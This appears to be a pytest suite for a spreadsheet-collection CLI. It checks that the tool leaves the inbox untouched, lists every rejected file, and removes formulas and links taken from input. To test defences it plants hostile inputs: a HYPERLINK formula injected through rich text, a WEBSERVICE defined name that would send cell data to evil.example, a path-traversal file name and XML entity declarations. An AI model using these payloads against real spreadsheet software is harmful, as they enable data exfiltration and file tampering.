"""Failures contained, through the real CLI: whatever the inbox holds, the run finishes with a
complete manifest, never touches INBOX, and writes outputs that open with nothing from input
that acts (formula, link)."""
from __future__ import annotations

import csv
import hashlib
import os
import re
import shutil
import socket
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from conftest import build, needs_soffice
from filelock import FileLock
from openpyxl import load_workbook

CLI = [sys.executable, "-m", "pipeline.cli"]
HOSTILE_TEXT = '<r><t>x</t></r></is></c><c t="str"><f>HYPERLINK("http://evil.example/","点我")</f><v>1</v></c><c><is><r>'


def cli(*args, env: dict | None = None, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([*CLI, *map(str, args)], capture_output=True, text=True, timeout=timeout,
                          env={**os.environ, "COLUMNS": "300", **(env or {})})


def tree(folder: Path) -> dict[str, str]:
    """Every entry under folder with a digest of its bytes (or what it is): to prove INBOX unchanged."""
    out = {}
    for root, dirs, files in os.walk(folder):
        for name in dirs + files:
            p = Path(root) / name
            key = os.fsencode(p.relative_to(folder)).hex()
            if len(os.fsencode(p)) >= 4096:
                out[key] = "too deep to stat"
            elif p.is_symlink():
                out[key] = "link:" + os.readlink(p)
            elif p.is_file():
                out[key] = hashlib.sha256(p.read_bytes()).hexdigest()
            else:
                out[key] = "dir" if p.is_dir() else "special"
    return out


def manifest(out: Path) -> dict[str, dict]:
    with open(out / "manifest.csv", encoding="utf-8-sig", newline="") as fh:
        return {r["file"]: r for r in csv.DictReader(fh)}


def no_traceback(p: subprocess.CompletedProcess) -> None:
    assert "Traceback" not in p.stdout + p.stderr, p.stdout + p.stderr


def assert_no_input_code(xlsx: Path, returned: bool = False) -> None:
    """summary.xlsx: no formula but the tool's own totals; a returned copy: none but the form's
    simple arithmetic. Neither has a link but the tool's own to returns/."""
    from pipeline.write.keep import simple

    wb = load_workbook(xlsx)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    ok = simple(str(c.value)) if returned else (
                        ws.title.startswith("汇总表") and str(c.value).startswith("=SUBTOTAL(9,"))
                    assert ok, (ws.title, c.coordinate, c.value)
                if c.hyperlink is not None and c.hyperlink.target is None:   # the tool's own, in-book
                    assert c.hyperlink.location and "[" not in c.hyperlink.location
                elif c.hyperlink is not None:   # xlsxwriter writes external links with \\
                    target = c.hyperlink.target.replace("\\", "/")
                    assert target.startswith("returns/") and ".." not in target.split("/")


@pytest.fixture
def forms(tmp_path) -> Path:
    """Three good forms, one with a planted error (so it has findings and a returned copy)."""
    src = tmp_path / "src"
    src.mkdir()
    build(src / "a.xlsx", seed=11, unit="甲单位")
    build(src / "b.xlsx", seed=12, unit="乙单位", plants=["identity"])
    build(src / "c.xlsx", seed=13, unit="丙单位")
    return src


def test_rejected_files_after_the_last_chunk_and_empty_inboxes(forms, tmp_path):
    inbox = tmp_path / "in"
    shutil.copytree(forms, inbox)
    (inbox / "zzz.xlsx").write_bytes(b"")
    (inbox / "zzz2.xlsx").write_bytes(b"PK\x03\x04broken")
    before = tree(inbox)
    # chunks of one unit: the rejected files arrive after the last unit was flushed
    from pipeline.run import run

    report = run(inbox, tmp_path / "api", jobs=1, chunk_size=1, min_chunk=1, returns=False)
    assert (report.received, report.accepted, report.rejected) == (5, 3, 2)
    p = cli("run", inbox, "--out", tmp_path / "o1", "-q", "-j", "1")
    no_traceback(p)
    assert p.returncode == 2
    m = manifest(tmp_path / "o1")
    assert {k: (v["status"], v["code"]) for k, v in m.items()} == {
        "a.xlsx": ("accepted", ""), "b.xlsx": ("accepted", ""), "c.xlsx": ("accepted", ""),
        "zzz.xlsx": ("rejected", "EMPTY_FILE"), "zzz2.xlsx": ("rejected", "CORRUPT_ZIP")}
    assert tree(inbox) == before
    only_bad = tmp_path / "bad"
    only_bad.mkdir()
    (only_bad / "x.xlsx").write_bytes(b"")
    p = cli("run", only_bad, "--out", tmp_path / "o2", "-q")
    no_traceback(p)
    assert p.returncode == 2 and list(manifest(tmp_path / "o2")) == ["x.xlsx"]
    empty = tmp_path / "empty"
    empty.mkdir()
    p = cli("run", empty, "--out", tmp_path / "o3", "-q")
    no_traceback(p)
    assert p.returncode == 0 and manifest(tmp_path / "o3") == {}
    assert load_workbook(tmp_path / "o3" / "summary.xlsx").sheetnames[0] == "总览"


def test_text_shaped_like_rich_text_stays_text(tmp_path):
    inbox = tmp_path / "in"
    inbox.mkdir()
    build(inbox / "h.xlsx", seed=21, unit="测试单位", plants=["identity"])
    wb = load_workbook(inbox / "h.xlsx")
    ws = wb.worksheets[0]
    hit = next(c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "二级机构" in c.value)
    hit.value = HOSTILE_TEXT
    unit = next(c for row in ws.iter_rows() for c in row if c.value == "测试单位")
    unit.value = "<r>A & B</r>"
    wb.save(inbox / "h.xlsx")
    p = cli("run", inbox, "--out", tmp_path / "out", "-q")
    no_traceback(p)
    assert p.returncode == 1
    summary = tmp_path / "out" / "summary.xlsx"
    assert_no_input_code(summary)
    texts = {c.value for ws in load_workbook(summary).worksheets for row in ws.iter_rows() for c in row}
    assert HOSTILE_TEXT in texts and "<r>A & B</r>" in texts
    for ret in (tmp_path / "out" / "returns").rglob("*.xlsx"):
        assert_no_input_code(ret, returned=True)


@needs_soffice
def test_libreoffice_keeps_every_row_of_a_hostile_summary(tmp_path):
    inbox = tmp_path / "in"
    inbox.mkdir()
    build(inbox / "h.xlsx", seed=22, unit="<r>A & B</r>", plants=["identity"], writer="op")
    assert cli("run", inbox, "--out", tmp_path / "out", "-q", "--no-returns").returncode == 1
    subprocess.run(["soffice", "--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,3",
                    "--outdir", str(tmp_path / "csv"), str(tmp_path / "out" / "summary.xlsx")],
                   capture_output=True, timeout=120, check=True)
    detail = next((tmp_path / "csv").glob("*明细*.csv")).read_text(encoding="utf-8")
    rows = list(csv.reader(detail.splitlines()))
    org_rows = sum(1 for r in load_workbook(tmp_path / "out" / "summary.xlsx")["明细"].iter_rows(min_row=2))
    assert len(rows) - 1 == org_rows and all(r[0] == "<r>A & B</r>" for r in rows[1:])


def test_out_and_inbox_kept_apart(forms, tmp_path):
    inbox = tmp_path / "in"
    shutil.copytree(forms, inbox)
    before = tree(inbox)
    for out, words in ((inbox, "不能就是输入文件夹"), (inbox / "结果", "之内"), (tmp_path, "在输出文件夹")):
        p = cli("run", inbox, "--out", out, "-q")
        no_traceback(p)
        assert p.returncode == 2 and words in p.stdout + p.stderr, (out, p.stdout)
        assert tree(inbox) == before
    # re-checking returned copies where they sit: OUT/returns as INBOX, OUT as OUT
    out = tmp_path / "o"
    assert cli("run", inbox, "--out", out, "-q").returncode == 1
    rets = tree(out / "returns")
    p = cli("run", out / "returns", "--out", out, "-q")
    assert p.returncode == 2 and tree(out / "returns") == rets


def test_own_outputs_recognised(forms, tmp_path):
    out = tmp_path / "o"
    assert cli("run", forms, "--out", out, "-q").returncode == 1
    inbox = tmp_path / "again"
    inbox.mkdir()
    shutil.copy(out / "summary.xlsx", inbox / "summary.xlsx")
    shutil.copy(out / "returns" / "b.xlsx", inbox / "b_returned.xlsx")
    p = cli("run", inbox, "--out", tmp_path / "o2", "-q")
    no_traceback(p)
    m = manifest(tmp_path / "o2")
    assert (m["summary.xlsx"]["status"], m["summary.xlsx"]["code"]) == ("skipped", "OWN_OUTPUT")
    assert (m["b_returned.xlsx"]["status"], m["b_returned.xlsx"]["units"]) == ("accepted", "1")
    with open(tmp_path / "o2" / "values.csv", encoding="utf-8-sig") as fh:
        sheets = {r["sheet"] for r in csv.DictReader(fh)}
    assert "问题清单" not in sheets and sheets
    # the unit's findings come back the same as from its original form
    def rules(o, f):
        with open(o / "findings.csv", encoding="utf-8-sig") as fh:
            return sorted((r["rule"], r["cell"]) for r in csv.DictReader(fh) if r["file"] == f)
    # (and, the store beside both OUTs knowing the first, as the unit's second version)
    again = rules(tmp_path / "o2", "b_returned.xlsx")
    assert [x for x in again if x[0] != "DUP-001"] == rules(out, "b.xlsx")
    with open(tmp_path / "o2" / "findings.csv", encoding="utf-8-sig") as fh:
        dup = [(r["severity"], r["message"]) for r in csv.DictReader(fh) if r["rule"] == "DUP-001"]
    assert dup == [("info", "第 2 版，替代 b.xlsx")]
    assert p.returncode == 1   # a skipped file is no rejection


def test_junk_special_entries_and_odd_names_are_all_listed(forms, tmp_path):
    inbox = tmp_path / "in"
    shutil.copytree(forms, inbox)
    for junk in ("Thumbs.db", "desktop.ini", ".DS_Store", "~$a.xlsx"):
        (inbox / junk).write_bytes(b"\x00junk")
    os.mkfifo(inbox / "pipe.xlsx")
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(inbox / "sock.xlsx"))
    (tmp_path / "elsewhere").mkdir()
    build(tmp_path / "elsewhere" / "z.xlsx", seed=14)
    os.symlink(tmp_path / "elsewhere", inbox / "linked_dir")
    gbk = os.fsdecode("单位报表".encode("gbk") + b".xlsx")
    shutil.copy(forms / "b.xlsx", inbox / gbk)
    long_name = "长" * 83 + ".xls"   # 253 bytes: its copy and temporary names must still fit
    shutil.copy(forms / "b.xlsx", inbox / long_name)
    (inbox / "x.xls").write_bytes((forms / "b.xlsx").read_bytes())
    (inbox / "x.xlsx").mkdir()
    shutil.copy(forms / "b.xlsx", inbox / "x.xlsx" / "y.xlsx")
    deep = inbox / "deep"
    deep.mkdir()
    cwd = os.getcwd()
    try:   # a folder whose path is longer than the system can open
        os.chdir(deep)
        for _ in range(18):
            os.mkdir("d" * 240)
            os.chdir("d" * 240)
    finally:
        os.chdir(cwd)
    before = tree(inbox)
    p = cli("run", inbox, "--out", tmp_path / "out", "-q")
    no_traceback(p)
    sock.close()
    assert p.returncode == 2
    m = manifest(tmp_path / "out")
    got = {k: (v["status"], v["code"]) for k, v in m.items()}
    for junk in ("Thumbs.db", "desktop.ini", ".DS_Store", "~$a.xlsx"):
        assert got[junk] == ("skipped", "SYSTEM_FILE")
    assert got["pipe.xlsx"] == got["sock.xlsx"] == got["linked_dir"] == ("rejected", "NOT_A_REGULAR_FILE")
    assert got["单位报表.xlsx"] == ("accepted", "")
    assert got[long_name] == got["x.xls"] == got["x.xlsx/y.xlsx"] == ("accepted", "")
    assert [v for k, v in got.items() if k.startswith("deep/")] == [("rejected", "PATH_TOO_LONG")]
    assert len(m) == 15
    returned = {k: v["returned"] for k, v in m.items() if v["returned"]}
    assert set(returned) == {"b.xlsx", "单位报表.xlsx", long_name, "x.xls", "x.xlsx/y.xlsx"}
    for rel in returned.values():
        assert (tmp_path / "out" / "returns" / rel).is_file()
        assert len(Path(rel).name.encode()) <= 200
    assert tree(inbox) == before
    summary = load_workbook(tmp_path / "out" / "summary.xlsx")
    overview = {r[0]: r[1] for r in summary["总览"].iter_rows(values_only=True) if r and r[0]}
    assert (overview["收到文件"], overview["跳过（非报送文件）"]) == (15, 4)


def test_hostile_names_give_links_inside_returns(forms, tmp_path):
    inbox = tmp_path / "in"
    inbox.mkdir()
    for name in ("..\\..\\Users\\Public\\payload.xlsx", "a#b%c.xlsx"):
        shutil.copy(forms / "b.xlsx", inbox / name)
    assert cli("run", inbox, "--out", tmp_path / "out", "-q").returncode == 1
    ws = load_workbook(tmp_path / "out" / "summary.xlsx")["问题清单"]
    links = [c.hyperlink.target.replace("\\", "/") for row in ws.iter_rows(min_row=2) for c in row if c.hyperlink]
    assert len(links) == len(list(ws.iter_rows(min_row=2)))
    assert all(t.startswith("returns/") and "#" not in t and "%" not in t and "/../" not in t
               and t.count("/") == 1 for t in links)
    for t in set(links):
        assert (tmp_path / "out" / t).is_file()


def test_a_failing_return_costs_that_return_only(forms, tmp_path):
    """One file replaced after it was read, one whose copy overruns the time limit (a workbook
    openpyxl needs long for, calamine reads fast)."""
    from pipeline.run import run

    inbox = tmp_path / "in"
    shutil.copytree(forms, inbox)
    shutil.copy(forms / "b.xlsx", inbox / "d.xlsx")
    slow = load_workbook(forms / "b.xlsx")
    ws = slow.create_sheet("空白格")
    from openpyxl.styles import Font
    bold = Font(bold=True)
    for r in range(1, 1500):
        for c in range(1, 60):
            ws.cell(row=r, column=c).font = bold
    slow.save(inbox / "e.xlsx")

    def swap(result):
        if result.file == "d.xlsx":   # the file changes between reading and returning
            shutil.copy(forms / "a.xlsx", inbox / "d.xlsx")

    report = run(inbox, tmp_path / "out", jobs=2, timeout=4, on_file=swap)
    m = manifest(tmp_path / "out")
    assert m["d.xlsx"]["returned"] == "" and "被改动或替换" in m["d.xlsx"]["return_error"]
    assert m["b.xlsx"]["returned"] == "b.xlsx" and m["b.xlsx"]["return_error"] == ""
    assert report.returns_written >= 1
    assert (tmp_path / "out" / "returns" / "b.xlsx").is_file()
    assert not (tmp_path / "out" / "returns" / "d.xlsx").exists()


def test_contained_workers_survive_dying_jobs():
    """A job that kills its process or raises: that task fails, a fresh worker serves the next."""
    from pipeline.read.pool import Failure, read_failed, run_iter

    got = dict(run_iter("os:_exit", [(3,)], lambda a, f: f, jobs=1, timeout=10))
    assert got[0] == Failure("killed", "退出码 3")
    got = dict(run_iter("os:getpid", [(), (), ()], lambda a, f: f, jobs=1, timeout=10))
    assert len(set(got.values())) == 1
    got = dict(run_iter("math:sqrt", [(-1,), (4,)], lambda a, f: f, jobs=1, timeout=10))
    assert got[0].kind == "error" and "math domain error" in got[0].detail and got[1] == 2.0
    msg = read_failed(("/srv/x/in/a.xlsx", "a.xlsx", True), Failure("killed", "信号 9"), 1536, 60).error
    assert "信号 9" in msg and "恶意" not in msg
    msg = read_failed(("/srv/x/in/a.xlsx", "a.xlsx", True),
                      Failure("error", "FileNotFoundError: [Errno 2] '/srv/x/in/a.xlsx'"), 1536, 60).error
    assert "/srv" not in msg and "FileNotFoundError" in msg and "Errno" not in msg


def test_returned_copies_drop_links_and_active_names(forms, tmp_path):
    from openpyxl.workbook.defined_name import DefinedName

    inbox = tmp_path / "in"
    inbox.mkdir()
    wb = load_workbook(forms / "b.xlsx")
    ws = wb.worksheets[0]
    ws["Z1"] = "官网"
    ws["Z1"].hyperlink = "http://evil.example/"
    wb.defined_names["leak"] = DefinedName("leak", attr_text=f'WEBSERVICE("http://evil.example/?"&\'{ws.title}\'!$B$3)')
    wb.defined_names["area"] = DefinedName("area", attr_text=f"'{ws.title}'!$A$1:$C$5")
    wb.save(inbox / "b.xlsx")
    assert cli("run", inbox, "--out", tmp_path / "out", "-q").returncode == 1
    ret = load_workbook(tmp_path / "out" / "returns" / "b.xlsx")
    assert ret.worksheets[1]["Z1"].value == "官网" and ret.worksheets[1]["Z1"].hyperlink is None
    assert "leak" not in ret.defined_names and "area" in ret.defined_names
    assert_no_input_code(tmp_path / "out" / "returns" / "b.xlsx", returned=True)


@pytest.mark.parametrize("part", ["xl/styles.xml", "docProps/core.xml"])
def test_dtd_in_any_part_is_refused(forms, tmp_path, part):
    inbox = tmp_path / "in"
    inbox.mkdir()
    src, dst = forms / "a.xlsx", inbox / "a.xlsx"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        names = zin.namelist()
        for name in names:
            data = zin.read(name)
            if name == part:
                data = data.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY a "aaaa">]>', 1)
            zout.writestr(name, data)
        if part not in names:
            zout.writestr(part, '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>')
    p = cli("run", inbox, "--out", tmp_path / "out", "-q")
    assert p.returncode == 2
    assert manifest(tmp_path / "out")["a.xlsx"]["code"] == "XML_DTD_FORBIDDEN"


def test_out_problems_and_locks_are_clear_errors(forms, tmp_path):
    afile = tmp_path / "afile"
    afile.write_text("x")
    p = cli("run", forms, "--out", afile, "-q")
    no_traceback(p)
    assert p.returncode == 2 and "文件，不是文件夹" in p.stdout + p.stderr
    out = tmp_path / "out"
    out.mkdir()
    with FileLock(str(out / ".selfeval.lock"), timeout=0):
        p = cli("run", forms, "--out", out, "-q")
    no_traceback(p)
    assert p.returncode == 2 and "另一个汇总正在写入" in p.stdout + p.stderr
    assert not (out / "summary.xlsx").exists()
    assert cli("run", forms, "--out", out, "-q").returncode == 1   # the lock was released


def test_duplicates_name_the_first_file_and_the_count(forms, tmp_path):
    inbox = tmp_path / "in"
    inbox.mkdir()
    for i in range(4):
        shutil.copy(forms / "a.xlsx", inbox / f"copy{i}.xlsx")
    # without a store: a warning on every later copy, with the count and the first file only
    assert cli("run", inbox, "--out", tmp_path / "out", "-q", "--fail-on", "none", "--store", "none").returncode == 0
    with open(tmp_path / "out" / "findings.csv", encoding="utf-8-sig") as fh:
        dups = [r for r in csv.DictReader(fh) if r["rule"] == "DUP-001"]
    assert [r["file"] for r in dups] == ["copy1.xlsx", "copy2.xlsx", "copy3.xlsx"]
    assert {r["severity"] for r in dups} == {"warning"}
    assert "copy0.xlsx" in dups[2]["message"] and "第 4 份" in dups[2]["message"]
    assert "copy1.xlsx" not in dups[2]["message"] and "copy2.xlsx" not in dups[2]["message"]
    ret = load_workbook(tmp_path / "out" / "returns" / "copy3.xlsx")["问题清单"]
    assert not any("copy0" in str(c.value) for row in ret.iter_rows() for c in row)
    # with the store (the default): the same bytes are one version, said as information
    assert cli("run", inbox, "--out", tmp_path / "out2", "-q", "--fail-on", "none").returncode == 0
    with open(tmp_path / "out2" / "findings.csv", encoding="utf-8-sig") as fh:
        dups = [(r["file"], r["severity"], r["message"]) for r in csv.DictReader(fh) if r["rule"] == "DUP-001"]
    assert dups == [(f"copy{i}.xlsx", "info", "与 copy0.xlsx 内容相同，是同一版本（第 1 版）") for i in (1, 2, 3)]


def test_link_limit_degrades_visibly(tmp_path, monkeypatch):
    from pipeline.run import run
    from pipeline.write import summary

    monkeypatch.setattr(summary, "LINK_LIMIT", 2)   # Excel's is 65,530: the same path, sooner
    inbox = tmp_path / "in"
    inbox.mkdir()
    for i in range(3):
        build(inbox / f"f{i}.xlsx", seed=30 + i, plants=["identity"])
    report = run(inbox, tmp_path / "out", jobs=1)
    ws = load_workbook(tmp_path / "out" / "summary.xlsx")["问题清单"]
    links = sum(1 for row in ws.iter_rows(min_row=2) for c in row if c.hyperlink)
    assert links == 2 and len(report.findings) > 2
    overview = {r[0]: r[1] for r in load_workbook(tmp_path / "out" / "summary.xlsx")["总览"].iter_rows(values_only=True) if r and r[0]}
    assert overview["问题清单未加链接的问题"].startswith(f"{len(report.findings) - 2} 条")


def test_control_characters_in_cells_cost_nothing(tmp_path):
    """A vertical tab or NUL in an amount cell's text (legal in the file as _x000B_, illegal in an
    openpyxl cell): the finding quotes the text, and the returned copy is still made, the
    characters written as Excel's escapes."""
    inbox = tmp_path / "in"
    inbox.mkdir()
    form = build(inbox / "v.xlsx", seed=23)
    target = next(c for c in form.cells if c.get("row", 0) > 0 and c["block"] == "income" and c["field"] == "other"
                  and c.get("sheet", "自评表") == "自评表")
    with zipfile.ZipFile(inbox / "v.xlsx") as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    name = "xl/worksheets/sheet1.xml"
    xml, n = re.subn(rf'<c r="{target["cell"]}"([^>]*?)(?: t="\w+")?>.*?</c>',
                     rf'<c r="{target["cell"]}"\1 t="inlineStr"><is><t>待定_x000B_与_x0000_</t></is></c>',
                     parts[name].decode("utf-8"), count=1)
    assert n == 1
    parts[name] = xml.encode("utf-8")
    with zipfile.ZipFile(inbox / "v.xlsx", "w", zipfile.ZIP_DEFLATED) as z:
        for part, data in parts.items():
            z.writestr(part, data)
    p = cli("run", inbox, "--out", tmp_path / "out", "-q")
    no_traceback(p)
    with open(tmp_path / "out" / "findings.csv", encoding="utf-8-sig") as fh:
        txt = [r for r in csv.DictReader(fh) if r["rule"] == "TXT-001"]
    assert [r["cell"] for r in txt] == [target["cell"]] and "\x0b" in txt[0]["actual"]
    m = manifest(tmp_path / "out")["v.xlsx"]
    assert (m["status"], m["returned"], m["return_error"]) == ("accepted", "v.xlsx", "")
    ret = load_workbook(tmp_path / "out" / "returns" / "v.xlsx")
    quoted = [c.value for row in ret["问题清单"].iter_rows() for c in row
              if isinstance(c.value, str) and "待定" in c.value]
    assert quoted and all("\x0b" not in t and "_x000B_" in t for t in quoted)
